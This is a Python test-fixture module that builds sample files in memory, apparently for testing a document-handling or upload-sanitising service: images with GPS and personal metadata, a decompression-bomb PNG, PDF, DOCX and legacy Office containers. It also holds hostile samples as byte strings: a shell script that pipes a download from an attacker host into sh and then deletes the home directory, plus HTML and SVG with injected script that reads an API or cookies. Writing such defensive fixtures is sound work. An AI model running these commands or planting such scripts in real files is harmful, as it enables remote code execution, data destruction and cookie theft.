"""Real files for the document tests, built in memory."""

import io
import struct
import zipfile
import zlib

from PIL import Image

GPS_IFD = 0x8825


def jpeg_with_gps(size=(64, 48), color=(200, 30, 30)) -> bytes:
    img = Image.new("RGB", size, color)
    exif = Image.Exif()
    exif[0x010F] = "ExampleCam"  # Make
    exif[0x0110] = "Model X"  # Model
    exif[0x0131] = "Secret Editor 1.0"  # Software
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (48.0, 51.0, 29.0)
    gps[3] = "E"
    gps[4] = (2.0, 17.0, 40.0)
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif, comment=b"shot at home")
    return out.getvalue()


def image(fmt: str, size=(64, 48), mode="RGB", color=(10, 120, 200), **save) -> bytes:
    img = Image.new(mode, size, color)
    out = io.BytesIO()
    img.save(out, fmt, **save)
    return out.getvalue()


def png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Jane Doe, 1 Secret Lane")
    return image("PNG", pnginfo=info)


def animated_gif(frames=3, size=(40, 30)) -> bytes:
    imgs = [Image.new("RGB", size, (i * 60, 0, 0)) for i in range(frames)]
    out = io.BytesIO()
    imgs[0].save(out, "GIF", save_all=True, append_images=imgs[1:], duration=80, loop=0,
                 comment=b"hidden comment")
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png_bomb(width=100_000, height=100_000) -> bytes:
    """A PNG whose header claims 10 gigapixels, with a few bytes of image data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


def pdf() -> bytes:
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
            b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    '<w:body><w:p><w:r><w:t>Police report</w:t></w:r></w:p></w:body></w:document>'
)


def docx(order=("[Content_Types].xml", "_rels/.rels", "word/document.xml"),
         extra: dict | None = None) -> bytes:
    parts = {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS,
             "word/document.xml": _DOCUMENT, **(extra or {})}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in [*order, *(extra or {})]:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 2, 3, 4, 5))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, parts[name])
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")
    return out.getvalue()


SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\nrm -rf ~\n"
HTML_PAGE = (b"<!DOCTYPE html><html><head><title>x</title></head>"
             b"<body><script>fetch('/api/customers').then(r=>r.text())</script></body></html>")
SVG_WITH_SCRIPT = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
                   b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                   b'<script type="text/javascript">alert(document.cookie)</script>'
                   b'<rect width="10" height="10"/></svg>')


# --- a minimal Compound File (the container of .doc and .xls) --------------------------

_END, _FREE, _FATSECT, _NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def _cfb_entry(name: str | None, kind: int, child=_NOSTREAM, start=_END, size=0) -> bytes:
    raw = (name + "\0").encode("utf-16-le") if name else b""
    return (raw.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(raw), kind, 1 if name else 0, _NOSTREAM, _NOSTREAM,
                          child)
            + b"\0" * 36 + struct.pack("<IQ", start if name else 0, size))


def compound_file(stream_name: str, stream_head: bytes, stream_size=4096) -> bytes:
    """A version 3 Compound File with one stream: "WordDocument" makes a Word 97
    .doc, "Workbook" an Excel .xls, as far as any content sniffer can tell."""
    sectors = stream_size // 512
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<9I", 0, 1, 1, 0, 0x1000, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    fat = [_FATSECT, _END] + [3 + i for i in range(sectors - 1)] + [_END]
    fat += [_FREE] * (128 - len(fat))
    directory = (_cfb_entry("Root Entry", 5, child=1)
                 + _cfb_entry(stream_name, 2, start=2, size=stream_size)
                 + _cfb_entry(None, 0) + _cfb_entry(None, 0))
    return (header + struct.pack("<128I", *fat) + directory
            + stream_head.ljust(stream_size, b"\0"))


def word_97_doc() -> bytes:
    return compound_file("WordDocument", struct.pack("<HH", 0xA5EC, 0xC1))


def excel_97_xls() -> bytes:
    return compound_file("Workbook", b"\x09\x08\x10\x00\x00\x06\x05\x00")
